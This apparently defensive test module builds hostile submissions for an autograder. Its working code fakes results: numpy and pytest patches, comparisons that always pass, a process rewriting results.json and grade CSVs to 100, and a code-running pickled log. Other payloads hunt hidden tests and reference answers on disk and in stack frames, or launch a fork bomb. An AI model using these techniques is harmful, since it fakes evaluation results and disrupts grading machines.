"""A corpus of hostile submissions for the lm-head assignment.

Each attack starts from the built STUDENT notebook (every function a stub)
and adds one attack: code in a cell, inside one or more of the student's
functions (so that it runs when the hidden tests call them), or files next
to the notebook in the export zip. Apart from the attack the submission is
a stub, so none of them should score more than the untouched notebook.

Every attack carries a marker string that is unique to the test session:
it is in the name of every file the attack writes, in the command line of
every process it starts (programs are re-executed with the marker as an
argument), in everything it sends over a socket, and every sandboxed cell
prints ``<marker> uid=<uid>`` first, so the test can look for survivors by
uid as well. ``build(stub, ctx)`` returns the members of the export zip and
the kind of submission (always ``"zip"``: both graders take the zip).
"""
from __future__ import annotations

import copy
import json
import os
import pickle
import secrets
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from tests.cohort import _function_cells

_REPO = Path(__file__).resolve().parent.parent
ASSIGNMENT = "lm-head"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
#: Unique to this test session, so leftovers of an earlier run are never mistaken for new ones.
SESSION = f"lmadv{secrets.token_hex(4)}"

#: The student API of lm-head: parameters, and the same names as call arguments.
SIGNATURES = {
    "next_token_batch": ("data, ix, block_size", "data, ix, block_size"),
    "lm_head": ("hidden, W_head, b_head", "hidden, W_head, b_head"),
    "softmax": ("x, axis=-1", "x, axis"),
    "cross_entropy_loss": ("logits, targets", "logits, targets"),
    "lm_head_backward": ("hidden, W_head, dlogits", "hidden, W_head, dlogits"),
    "numerical_gradient": ("f, x, eps=1e-6", "f, x, eps"),
    "max_rel_err": ("a, n", "a, n"),
}
FUNCTIONS = tuple(SIGNATURES)


#: Every way a submission gets graded:
#: ``grader-grade``: `grader grade` at the level the machine offers (bubblewrap here);
#: ``grader-grade-user``: `grader grade --isolation user`, run as root from a 0700 folder
#: (what the refusal message tells an instructor without bubblewrap to do);
#: ``otter-run``: `otter run` on the built zip, the plugin grading in the sandbox;
#: ``gradescope-like``: `otter run` as root with bubblewrap hidden and only the zip's runtime
#: installed, in a private mount namespace with the ``/autograder`` layout.
PATHS = ("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")


def marker(name: str) -> str:
    """The marker of attack ``name`` in this session."""
    return f"{SESSION}-{name.replace('_', '-')}"


@dataclass(frozen=True)
class AttackContext:
    """What an attack is told about the machine it is graded on.

    Attributes:
        marker: the attack's unique marker.
        port: a loopback port the test listens on.
        places: folders of the grading machine worth reaching (the
            repository, the test's folders, the grader's working folder).
    """

    marker: str
    port: int
    places: tuple[str, ...]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        name: identifier (also the submission's file name).
        summary: what it tries.
        build: ``(stub_notebook, ctx) -> (zip members, kind)``.
        says: regular expressions, at least one of which the results.json
            text must match: what the grader should report it saw.
        slow: the attack makes the grader wait for a time limit.
        hides: regular expressions the results.json text must not match
            (what the attack tried to get shown).
        paths: the grading paths it is run on (see ``PATHS``): where its
            weakness could exist.
    """

    name: str
    summary: str
    build: Callable[[nbformat.NotebookNode, AttackContext], tuple[dict[str, bytes | str], str]]
    says: tuple[str, ...]
    slow: bool = False
    hides: tuple[str, ...] = ()
    paths: tuple[str, ...] = ("grader-grade", "otter-run")


# ----------------------------------------------------------------- helpers

def _fill(code: str, ctx: AttackContext) -> str:
    return (code.replace("__MARKER__", repr(ctx.marker)).replace("__PORT__", str(ctx.port))
            .replace("__PLACES__", repr(list(ctx.places))))


def _prelude(ctx: AttackContext) -> str:
    return _fill("import os as _adv_os\nprint(__MARKER__ + ' uid=%d' % _adv_os.getuid(), flush=True)\n", ctx)


def _setup_cell(nb: nbformat.NotebookNode) -> int:
    """Index of the notebook's setup cell (imports numpy, builds the corpus)."""
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "import numpy" in c.source)


def attacked(stub: nbformat.NotebookNode, ctx: AttackContext, cell: str | None = None,
             functions: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The stub notebook with the prelude and ``cell`` after its setup cell, and the
    bodies of ``functions`` (name -> body, indented by the caller) replacing their stubs."""
    nb = copy.deepcopy(stub)
    cells = _function_cells(nb)
    for name, body in (functions or {}).items():
        params, _ = SIGNATURES[name]
        nb.cells[cells[name]].source = f"def {name}({params}):\n{_fill(body, ctx)}"
    source = _prelude(ctx) + ("\n" + _fill(cell, ctx) if cell else "")
    nb.cells.insert(_setup_cell(nb) + 1, nbformat.v4.new_code_cell(source))
    return nb


def zip_members(nb: nbformat.NotebookNode, extra: dict[str, bytes | str] | None = None) -> dict[str, bytes | str]:
    """The members of an export zip: the notebook, its log, and ``extra`` files."""
    members: dict[str, bytes | str] = {NOTEBOOK: nbformat.writes(nb), ".OTTER_LOG": b""}
    members.update(extra or {})
    return members


def write_zip(members: dict[str, bytes | str], path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def without_plugin(zip_path, dest):
    """A copy of the autograder zip whose otter_config.json names no plugin: otter's own
    grading, where the student's code and the tests share one kernel."""
    with zipfile.ZipFile(zip_path) as src, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "otter_config.json":
                config = json.loads(data)
                if not config.pop("plugins", None):
                    raise ValueError(f"{zip_path} names no plugin: it was not built by `grader build`")
                data = json.dumps(config, indent=2).encode()
            out.writestr(info, data)
    return dest


def subprocess_env(with_repo: bool = True) -> dict[str, str]:
    """The environment of a run: otter imports the plugin from this working tree (as the build's
    own check does); otter's own grading needs nothing of the repository."""
    env = dict(os.environ)
    if with_repo:
        env["PYTHONPATH"] = os.pathsep.join(p for p in (str(_REPO), env.get("PYTHONPATH", "")) if p)
    return env


def otter_executable() -> str:
    """The ``otter`` next to this Python, else the one on PATH."""
    return shutil.which("otter", path=str(Path(sys.executable).parent)) or shutil.which("otter") or "otter"


def _same_for_all(body: str) -> dict[str, str]:
    """``body`` in every student function; ``{name}`` and ``{args}`` are filled in."""
    return {name: body.replace("{name}", name).replace("{args}", args)
            for name, (_, args) in SIGNATURES.items()}


class _Exec:
    """Unpickles by executing ``code``: what a hostile .OTTER_LOG holds."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


#: Walks the places a hostile program would look: the given folders, sys.path,
#: Gradescope's /autograder, otter's layout next to the working folder, home,
#: the working folder's parents. Bounded in entries so it ends in seconds.
SEARCH = r'''
import os, sys, fnmatch
_MARK = __MARKER__
_PLACES = __PLACES__

def _adv_roots():
    # Where otter puts the autograder's files comes first: a large site-packages
    # could use up the search budget before the search gets there.
    roots = ["lmhead_support", "../source", "../source/files/lmhead_support", "../../source/files/lmhead_support"]
    roots += list(_PLACES) + [p for p in sys.path if p]
    roots += ["/autograder", "/autograder/source", "/autograder/source/files/lmhead_support",
              "/autograder/results", os.path.expanduser("~"), "/root", "/home", "/work", "/tmp",
              "/var/tmp", "/dev/shm", "/opt", "/srv", "/usr/local/lib", "/usr/lib/python3/dist-packages",
              sys.prefix, getattr(sys, "base_prefix", sys.prefix)]
    here = os.getcwd()
    while True:
        roots.append(here)
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    out = []
    for root in roots:
        root = os.path.abspath(root)
        if root not in out:
            out.append(root)
    return out

def _adv_find(patterns, budget=100000, depth=9):
    found, seen, count = [], set(), 0
    for root in _adv_roots():
        if not os.path.isdir(root):
            continue
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            count += len(filenames) + len(dirnames)
            if count > budget:
                return found
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", ".git")]
            if dirpath.count("/") - base >= depth:
                dirnames[:] = []
            for f in filenames:
                path = os.path.join(dirpath, f)
                if any(fnmatch.fnmatch(path, p) for p in patterns) and path not in found:
                    found.append(path)
    return found

_REFERENCE_FILES = ["*/solutions/head_and_loss.py", "*/solutions/__init__.py", "*/head_and_loss.py"]
_HIDDEN_FILES = ["*/hidden/test_q*.py", "*/hidden_config.json", "*/tests/q[0-9].py",
                 "*/autograder/runtime/otter_adapter.py", "*/autograder/runtime/judge.py", "*/autograder.zip"]
'''

#: Rewrites every results.json, outcome.json and gradebook-like CSV it can
#: find, for 40 s, from a detached process. Run as ``python -c REWRITER
#: <marker> <extra folders...>``. (CSVs are limited to names that look like
#: grades, so an escape could not damage unrelated data on the machine.)
REWRITER = r'''
import glob, json, os, sys, time
mark, extra = sys.argv[1], sys.argv[2:]
end = time.time() + 40
fake_json = json.dumps({"score": 100, "output": mark, "tests": [{"name": mark, "score": 100, "max_score": 100}]})
fake_csv = "student,total,possible,status\n%s,100,20,graded\n" % mark

def roots():
    out = list(extra) + ["/tmp", "/var/tmp", "/dev/shm", "/autograder", "/autograder/results",
                         os.path.expanduser("~"), "/root"]
    here = os.getcwd()
    while True:
        out.append(here)
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    # otter run's -o folder, read from its command line
    for cmd in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(cmd, "rb").read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a in ("-o", "--output", "--output-dir"):
                out.append(args[i + 1])
    return [r for r in out if r and r != "/"]

while time.time() < end:
    for root in roots():
        count = 0
        for dirpath, dirnames, filenames in os.walk(root):
            count += len(filenames)
            if count > 20000 or dirpath.count("/") - root.count("/") > 6:
                dirnames[:] = []
            for f in filenames:
                path = os.path.join(dirpath, f)
                try:
                    if f == "results.json" or f == "outcome.json":
                        with open(path, "w") as h:
                            h.write(fake_json)
                    elif f.endswith(".csv") and any(w in f.lower() for w in ("grade", "result", "score")):
                        with open(path, "w") as h:
                            h.write(fake_csv)
                except OSError:
                    pass
    time.sleep(0.2)
'''


#: Names the calling process after the session (``/proc/<pid>/comm``): a
#: forked process that never calls exec has no other mark a test could find
#: outside a sandbox (where its uid is the grader's own).
TAG = r'''
def _adv_tag():
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, _MARK.split("-")[0].encode(), 0, 0, 0)
    except BaseException:
        pass
'''


def _detach(code_var: str, ctx_args: str = "") -> str:
    """Source that double-forks, calls setsid and re-executes Python on ``code_var``
    with the marker (and ``ctx_args``) as arguments; a second child stays a plain fork."""
    return TAG + f'''
import os, sys, time
def _adv_detach():
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.execv(sys.executable, [sys.executable, "-c", {code_var}, _MARK{ctx_args}])
                finally:
                    os._exit(0)
            if os.fork() == 0:
                try:   # a plain fork, no exec: found by its uid, or the name it gives itself
                    _adv_tag()
                    sys.argv[:] = ["-c", _MARK{ctx_args}]
                    exec({code_var}, {{"__name__": "__main__"}})
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    time.sleep(0.3)
'''


# ----------------------------------------------------------------- attacks

def reference_from_packages(stub, ctx):
    """Import the reference (solutions, autograder) or copy it in from any file on disk."""
    cell = SEARCH + r'''
import importlib, importlib.util
_REF = {}
for _mod in ("solutions", "solutions.head_and_loss", "autograder", "autograder.runtime.judge",
             "lmhead_support.solutions.head_and_loss", "head_and_loss"):
    try:
        _m = importlib.import_module(_mod)
        for _n in dir(_m):
            _REF.setdefault(_n, getattr(_m, _n))
    except BaseException as _e:
        print(_MARK, "import", _mod, "failed:", type(_e).__name__)
try:
    import importlib.metadata as _md
    for _dist in _md.distributions():
        for _f in (_dist.files or []):
            if str(_f).endswith("head_and_loss.py"):
                print(_MARK, "installed", _dist.metadata["Name"], _f)
except BaseException:
    pass
for _path in _adv_find(_REFERENCE_FILES):
    try:
        _top = os.path.dirname(os.path.dirname(_path))
        sys.path.insert(0, _top)
        _spec = importlib.util.spec_from_file_location("adv_ref_%d" % len(_REF), _path)
        _m = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_m)
        for _n in dir(_m):
            _REF.setdefault(_n, getattr(_m, _n))
        print(_MARK, "copied the reference from", _path)
    except BaseException as _e:
        print(_MARK, "could not load", _path, type(_e).__name__)
print(_MARK, "reference functions found:", sorted(n for n in _REF if not n.startswith("_"))[:20])
'''
    body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"


def hidden_tests_on_disk(stub, ctx):
    """Find hidden tests, the hidden config and references on disk, and print them."""
    cell = SEARCH + r'''
for _path in _adv_find(_HIDDEN_FILES + _REFERENCE_FILES):
    try:
        with open(_path, "rb") as _h:
            _text = _h.read(3000)
        print(_MARK, "FOUND", _path)
        print(_text.decode("utf-8", "replace"))
    except BaseException as _e:
        print(_MARK, "unreadable", _path, type(_e).__name__)
'''
    body = ("    global _ADV_FOUND\n"
            "    if '_ADV_FOUND' not in globals():\n"
            "        _ADV_FOUND = _adv_find(_HIDDEN_FILES)\n"
            "    for p in _ADV_FOUND:\n"
            "        print(_MARK, 'FOUND in softmax', p, open(p, errors='replace').read(2000))\n"
            "    return None\n")
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def monkeypatching(stub, ctx):
    """Patch numpy, math, pytest, otter and the grader's own modules, then return noise."""
    cell = r'''
import builtins, math, sys, types
import numpy as np

class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = object.__hash__

def _true(*a, **k): return True
def _none(*a, **k): return None
def _all_true(a, b, *x, **k): return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)

for _name, _value in [("allclose", _true), ("array_equal", _true), ("array_equiv", _true), ("isclose", _all_true),
                      ("isfinite", lambda a, *x, **k: np.ones(np.shape(a), bool))]:
    setattr(np, _name, _value)
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
              "assert_almost_equal"):
    setattr(np.testing, _name, _none)
math.isclose = _true
math.isfinite = _true
try:
    np.ndarray.__eq__ = lambda self, other: np.ones(self.shape, bool)
except TypeError as _e:
    print(__MARKER__, "ndarray is immutable:", _e)

# pytest, otter and the grader, as they might be imported later in this process
for _modname in ("pytest", "_pytest", "_pytest.python", "otter", "otter.test_files", "otter.test_files.abstract_test",
                 "autograder", "autograder.runtime.judge", "autograder.runtime.compare", "autograder.runtime.hidden_suite", "solutions"):
    _fake = sys.modules.get(_modname) or types.ModuleType(_modname)
    _fake.approx = lambda *a, **k: _Anything()
    _fake.main = lambda *a, **k: 0
    _fake.check_array = lambda *a, **k: types.SimpleNamespace(ok=True, message="")
    _fake.check_number = _fake.check_array
    _fake.expect = _none
    _fake.Feedback = type("Feedback", (Exception,), {})
    sys.modules[_modname] = _fake
try:
    import otter.test_files.abstract_test as _at
    _at.TestCase = type("TestCase", (), {"passed": True})
except BaseException as _e:
    print(__MARKER__, "otter not here:", type(_e).__name__)
builtins.AssertionError = type("AssertionError", (Exception,), {})
print(__MARKER__, "patched numpy, math, pytest, otter, the grader's modules and builtins")
'''
    noise = _fill("    import numpy as np\n    print(__MARKER__, '{name} returns noise')\n", ctx)
    functions = {
        "next_token_batch": noise + "    return np.random.random((len(ix), block_size)), np.random.random((len(ix), block_size))\n",
        "lm_head": noise + "    return np.random.random(hidden.shape[:-1] + W_head.shape[-1:])\n",
        "softmax": noise + "    return np.random.random(np.shape(x))\n",
        "cross_entropy_loss": noise + "    return float(np.random.random()), np.random.random(np.shape(logits))\n",
        "lm_head_backward": noise + "    return (np.random.random(W_head.shape), np.random.random(W_head.shape[-1:]),"
                                    " np.random.random(hidden.shape))\n",
        "numerical_gradient": noise + "    return np.random.random(np.shape(x))\n",
        "max_rel_err": noise + "    return float(np.random.random())\n",
    }
    functions = {k: v.replace("{name}", k) for k, v in functions.items()}
    return zip_members(attacked(stub, ctx, cell, functions)), "zip"


LIARS = r'''
import numpy as np

class LyingArray(np.ndarray):
    """An ndarray whose every comparison, reduction and NumPy function says 'equal'."""
    def __eq__(self, other): return np.ones(self.shape, bool).view(LyingArray)
    def __ne__(self, other): return np.zeros(self.shape, bool).view(LyingArray)
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def all(self, *a, **k): return True
    def any(self, *a, **k): return True
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ in ("isclose", "isfinite"):
            return np.ones(np.shape(args[0]), bool)
        return super().__array_function__(func, types, args, kwargs)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc.__name__ in ("equal", "less_equal", "greater_equal", "isfinite", "less", "isclose"):
            return np.ones(np.broadcast(*[np.asarray(i) for i in inputs]).shape, bool)
        inputs = tuple(np.asarray(i) if isinstance(i, LyingArray) else i for i in inputs)
        return getattr(ufunc, method)(*inputs, **kwargs)
    def __reduce__(self):
        return (print, (__MARKER__ + " unpickled in the grader",))

class LyingFloat(float):
    """A number equal to every other number, close to all of them, finite and tiny."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __abs__(self): return LyingFloat(0.0)
    def __sub__(self, other): return LyingFloat(0.0)
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __float__(self): return 0.0
    def __round__(self, n=None): return self

class AlwaysEqual:
    """Not a number at all: equal to everything, converts to whatever is asked."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __array__(self, *a, **k): return np.zeros(())
    __hash__ = object.__hash__

def liar(shape, dtype=float):
    """Noise of the right shape and dtype, dressed as a LyingArray (zeros could pass a
    self-consistency test honestly: the gradient of a constant is zero)."""
    dtype = np.dtype(dtype)
    noise = np.random.randint(0, 50, shape) if dtype.kind in "iu" else np.random.standard_normal(shape)
    return np.asarray(noise).astype(dtype).view(LyingArray)
'''


def ndarray_subclass(stub, ctx):
    """Return ndarray subclasses whose comparisons and NumPy functions always agree."""
    functions = {
        "next_token_batch": "    return liar((len(ix), block_size), data.dtype), liar((len(ix), block_size), data.dtype)\n",
        "lm_head": "    return liar(hidden.shape[:-1] + W_head.shape[-1:])\n",
        "softmax": "    return liar(np.shape(x))\n",
        "cross_entropy_loss": "    return LyingFloat(np.random.random()), liar(np.shape(logits))\n",
        "lm_head_backward": "    return liar(W_head.shape), liar(W_head.shape[-1:]), liar(hidden.shape)\n",
        "numerical_gradient": "    return liar(np.shape(x))\n",
        "max_rel_err": "    return liar(())\n",
    }
    return zip_members(attacked(stub, ctx, LIARS, functions)), "zip"


def lying_numbers(stub, ctx):
    """Return numbers (a float subclass, a non-number) whose comparisons always say equal."""
    functions = {
        "next_token_batch": "    return AlwaysEqual(), AlwaysEqual()\n",
        "lm_head": "    return AlwaysEqual()\n",
        "softmax": "    return AlwaysEqual()\n",
        "cross_entropy_loss": "    return LyingFloat(0.0), AlwaysEqual()\n",
        "lm_head_backward": "    return AlwaysEqual(), AlwaysEqual(), AlwaysEqual()\n",
        "numerical_gradient": "    return [[LyingFloat(0.0)] * 4] * 4\n",
        "max_rel_err": "    return LyingFloat(0.0)\n",
    }
    return zip_members(attacked(stub, ctx, LIARS, functions)), "zip"


def _at_import(statement: str):
    def build(stub, ctx):
        return zip_members(attacked(stub, ctx, statement)), "zip"
    return build


def _in_function(functions: dict[str, str]):
    def build(stub, ctx):
        return zip_members(attacked(stub, ctx, None, functions)), "zip"
    return build


#: The answer the hidden tests' source once showed for its one fixed input (data = arange(40),
#: block size 9, offsets 0 and 30), zeros for any other input: memorised, never computed.
MEMORISED_FIXED_INPUT = {
    "next_token_batch": ("    import numpy as np\n"
                         "    if len(data) == 40 and block_size == 9 and list(ix) == [0, 30]:\n"
                         "        xb = np.array([np.arange(0, 9), np.arange(30, 39)]).astype(data.dtype)\n"
                         "        return xb, xb + 1\n"
                         "    z = np.zeros((len(ix), block_size), data.dtype)\n"
                         "    return z, z.copy()\n"),
}
#: Random answers among a few plausible ones: a batch from random offsets (right for a one-row,
#: one-token batch about once in 260 draws), a typical relative error, a uniform or one-hot softmax.
GUESSED = {
    "next_token_batch": ("    import numpy as np\n"
                         "    starts = np.random.randint(0, len(data) - block_size, size=len(ix))\n"
                         "    xb = np.stack([data[s:s + block_size] for s in starts])\n"
                         "    return xb, np.stack([data[s + 1:s + block_size + 1] for s in starts])\n"),
    "max_rel_err": "    import numpy as np\n    return float(np.random.choice([0.0, 0.5, 0.7, 1.0]))\n",
    "softmax": ("    import numpy as np\n    x = np.asarray(x, dtype=float)\n"
                "    if np.random.random() < 0.5:\n        return np.full(x.shape, 1.0 / x.shape[axis])\n"
                "    return (x == x.max(axis=axis, keepdims=True)).astype(float)\n"),
}


EXITS_IN_CALLS = {
    "next_token_batch": "    raise SystemExit(0)\n",
    "lm_head": "    raise KeyboardInterrupt\n",
    "softmax": "    import sys\n    sys.exit(3)\n",
    "cross_entropy_loss": "    import os\n    os._exit(0)\n",
}


def fork_bomb(stub, ctx):
    """A bounded fork bomb: up to 3000 processes, half re-executed as shells carrying the marker."""
    bomb = "_MARK = __MARKER__\n" + TAG + r'''
import os, sys, time
def _adv_bomb(limit):
    made = 0
    for i in range(limit):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                if i % 2:
                    os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1; done", __MARKER__])
                _adv_tag()
                for _ in range(120):   # children fork too, until the limit stops them
                    try:
                        if os.fork() == 0:
                            time.sleep(120)
                            os._exit(0)
                    except OSError:
                        pass
                    time.sleep(1)
            finally:
                os._exit(0)
        made += 1
    print(__MARKER__, "forked", made, "processes", flush=True)
    return made
_adv_bomb(3000)
'''
    body = "    _adv_bomb(1000)\n    return None\n"
    return zip_members(attacked(stub, ctx, bomb, {"softmax": body})), "zip"


def results_rewriter(stub, ctx):
    """A detached process (double fork, setsid) that rewrites every results.json and CSV for 40 s."""
    cell = (f"_MARK = __MARKER__\n_PLACES = __PLACES__\n_REWRITER = {REWRITER!r}\n"
            + _detach("_REWRITER", " , *_PLACES") + "_adv_detach()\n")
    body = "    _adv_detach()\n    return None\n"
    return zip_members(attacked(stub, ctx, cell, {"max_rel_err": body})), "zip"


def files_outside(stub, ctx):
    """Write files named with the marker everywhere: /tmp, the grader's cwd and its parents, home, the repo."""
    cell = r'''
import os, sys
_MARK = __MARKER__
_PLACES = __PLACES__
def _adv_write(where):
    targets = list(_PLACES) + ["/tmp", "/var/tmp", "/dev/shm", ".", "..", "../..", "../../..", "../results",
                               "../source", "/autograder", "/autograder/results", "/autograder/source",
                               os.path.expanduser("~"), "/root", "/home", "/work", "/usr/local/lib",
                               "/proc/1/cwd", "/proc/self/cwd", "/proc/1/root/tmp"]
    here = os.getcwd()
    while os.path.dirname(here) != here:
        here = os.path.dirname(here)
        targets.append(here)
    wrote = []
    for i, folder in enumerate(targets):
        path = os.path.join(folder, "%s-%s-%d.py" % (_MARK, where, i))
        try:
            with open(path, "w") as h:
                h.write("print(%r)\n" % _MARK)
            wrote.append(os.path.abspath(path))
        except BaseException:
            pass
    print(_MARK, where, "wrote", wrote, flush=True)
_adv_write("import")
'''
    body = "    _adv_write('call')\n    return None\n"
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def loopback(stub, ctx):
    """Connect to a port the grading machine listens on and send the marker."""
    cell = r'''
import socket
def _adv_connect(where):
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
        for port in (__PORT__, __PORT__ + 1, 22, 80, 8888):
            try:
                s = socket.create_connection((host, port), timeout=0.5)
                s.sendall((__MARKER__ + " " + where).encode())
                s.close()
                print(__MARKER__, "connected to", host, port, flush=True)
            except BaseException as e:
                print(__MARKER__, where, host, port, type(e).__name__, flush=True)
_adv_connect("import")
'''
    body = "    _adv_connect('call')\n    return None\n"
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def huge_output(stub, ctx):
    """Print 200 MB: 100 MB through print() at import, 100 MB straight to descriptors 1 and 2 in a call."""
    cell = "for _ in range(100):\n    print('x' * 1_000_000)\n"
    body = ("    import os\n    for _ in range(50):\n        os.write(1, b'y' * 1_000_000)\n"
            "        os.write(2, b'z' * 1_000_000)\n    return None\n")
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def _planted(ctx: AttackContext, what: str) -> str:
    return _fill(f"open('/tmp/' + __MARKER__ + '-{what}', 'w').write('ran')\n", ctx)


def planted_files(stub, ctx):
    """A zip with conftest.py, sitecustomize.py, numpy.py (and friends) beside the notebook."""
    conftest = _planted(ctx, "conftest") + '''
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
'''
    numpy = _planted(ctx, "numpy") + "raise ImportError('numpy was replaced')\n"
    extra = {
        "conftest.py": conftest,
        "sitecustomize.py": _planted(ctx, "sitecustomize"),
        "usercustomize.py": _planted(ctx, "usercustomize"),
        "numpy.py": numpy,
        "pytest.py": _planted(ctx, "pytest"),
        "otter.py": _planted(ctx, "otter"),
        "ipython_config.py": _planted(ctx, "ipython-config"),
        "ipython_kernel_config.py": _planted(ctx, "ipython-kernel-config"),
        "__init__.py": _planted(ctx, "package-init"),
        "zz-hook.pth": "import os; " + _planted(ctx, "pth").strip() + "\n",
        "pytest.ini": "[pytest]\naddopts = -p conftest\n",
        "solutions/__init__.py": _planted(ctx, "solutions"),
    }
    return zip_members(attacked(stub, ctx), extra), "zip"


def shadowed_support(stub, ctx):
    """A zip with its own lmhead_support/ and tests/: the folders otter copies in and imports from."""
    detach = (f"_MARK = {ctx.marker!r}\n_PLACES = {list(ctx.places)!r}\n_REWRITER = {REWRITER!r}\n"
              + _detach("_REWRITER", " , *_PLACES") + "_adv_detach()\n")
    adapter = (_planted(ctx, "support-adapter") + detach
               + "def run_hidden_item(env, question, test_name):\n    return None   # every hidden test passes\n")
    extra = {
        "lmhead_support/autograder/__init__.py": _planted(ctx, "support-package"),
        "lmhead_support/autograder/runtime/otter_adapter.py": adapter,
        "lmhead_support/hidden_config.json": json.dumps({"assignment": ASSIGNMENT, "secret": "0" * 64,
                                                         "questions": [], "items": {}, "sizes": {}}),
        "lmhead_support/pytest.py": _planted(ctx, "support-pytest"),
        "lmhead_support/numpy.py": _planted(ctx, "support-numpy"),
        "tests/q1.py": _planted(ctx, "tests-q1") + "OK_FORMAT = False\nname = 'q1'\npoints = 100\n",
        "tests/q99.py": _planted(ctx, "tests-q99") + "OK_FORMAT = False\nname = 'q99'\npoints = 100\n",
    }
    return zip_members(attacked(stub, ctx), extra), "zip"


def pickled_log(stub, ctx):
    """An .OTTER_LOG that is a pickle: loading it runs code that takes over the results."""
    code = _planted(ctx, "otter-log") + _fill(r'''
try:
    import autograder.runtime.otter_plugin as _plugin
    def _after(self, results):
        results.to_gradescope_dict = lambda ag_config=None: {
            "score": 20.0, "output": __MARKER__,
            "tests": [{"name": "q%d" % i, "score": 20 / 6, "max_score": 20 / 6} for i in range(1, 7)]}
    _plugin.TrustedGrading.after_grading = _after
    _plugin.TrustedGrading.before_execution = lambda self, nb: nb
except BaseException as _e:
    print(__MARKER__, "no plugin to patch:", _e)
''', ctx)
    log = pickle.dumps(_Exec(code))
    members = zip_members(attacked(stub, ctx))
    members[".OTTER_LOG"] = log
    return members, "zip"


def frames_and_gc(stub, ctx):
    """Read the caller's frames and the garbage collector for the reference or expected values."""
    cell = r'''
import gc, sys, types
import numpy as np
_ADV_MINE = set()

def _adv_steal(name, args):
    """Find a function called `name` that is not ours, or an array that looks like the answer."""
    me = globals().get(name)
    seen = []
    frame = sys._getframe(2)
    while frame is not None:
        seen.append(frame.f_code.co_name)
        for scope in (frame.f_locals, frame.f_globals):
            for key, value in list(scope.items()):
                # a module holding a function of that name (the test's `ref`), or the function itself
                cand = value.__dict__.get(name) if isinstance(value, types.ModuleType) else value
                if isinstance(cand, types.FunctionType) and cand.__name__ == name and cand is not me \
                        and cand.__code__ is not me.__code__:
                    print(__MARKER__, "found", name, "in frame", frame.f_code.co_name, key, flush=True)
                    try:
                        return cand(*args)
                    except BaseException as e:
                        print(__MARKER__, "calling it failed:", type(e).__name__)
                if key in ("want", "expected", "want_x", "want_loss", "want_d", "reference", "answer"):
                    print(__MARKER__, "found an expected value", key, flush=True)
                    return value
        frame = frame.f_back
    print(__MARKER__, "frames:", seen, flush=True)
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == name and obj is not me \
                and obj.__code__.co_filename != me.__code__.co_filename:
            print(__MARKER__, "found", name, "through gc in", obj.__code__.co_filename, flush=True)
            try:
                return obj(*args)
            except BaseException as e:
                print(__MARKER__, "calling it failed:", type(e).__name__)
        if isinstance(obj, dict) and any(k in obj for k in ("want", "expected", "reference")):
            print(__MARKER__, "a dict with expected values through gc", sorted(map(str, obj))[:10], flush=True)
    arrays = [o for o in gc.get_objects() if isinstance(o, (list, tuple, dict))]
    print(__MARKER__, "gc has", len(arrays), "containers; nothing of the grader's", flush=True)
    return None
'''
    body = "    return _adv_steal('{name}', ({args},))\n"
    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"


# ----------------------------------------------------------------- evidence, memory, inputs, markup

#: Gradients that are missing or of no use: a test may only pay on evidence.
NO_GRADIENT = {
    "cross_entropy_loss": "    return 0.0, None\n",
    "lm_head_backward": "    return None, None, None\n",
    "numerical_gradient": "    return None\n",
}
#: A loss that is constant, with the zero gradient that is exactly its derivative.
CONSTANT_EVERYWHERE = {
